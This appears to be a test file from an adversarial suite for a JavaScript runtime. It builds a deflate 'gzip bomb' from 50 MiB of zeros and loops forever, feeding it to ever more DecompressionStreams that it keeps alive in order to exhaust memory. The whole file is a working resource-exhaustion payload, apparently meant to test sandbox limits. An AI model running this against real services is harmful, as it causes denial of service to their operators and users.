// Gzip bombs are written, and nobody reads what comes out.

import { attack } from "../attack.js";

export default attack(async () => {
  const zeros = new Uint8Array(1 << 20);
  let sent = 0;
  const source = new ReadableStream({
    pull(controller) {
      if (sent++ < 50) controller.enqueue(zeros);
      else controller.close();
    },
  });
  const bomb = new Uint8Array(await new Response(source.pipeThrough(new CompressionStream("deflate"))).arrayBuffer());
  const kept = [];
  for (;;) {
    for (let i = 0; i < 100; i++) {
      const stream = new DecompressionStream("deflate");
      kept.push(stream);
      stream.writable.getWriter().write(bomb);
    }
    await scheduler.wait(0);
  }
});
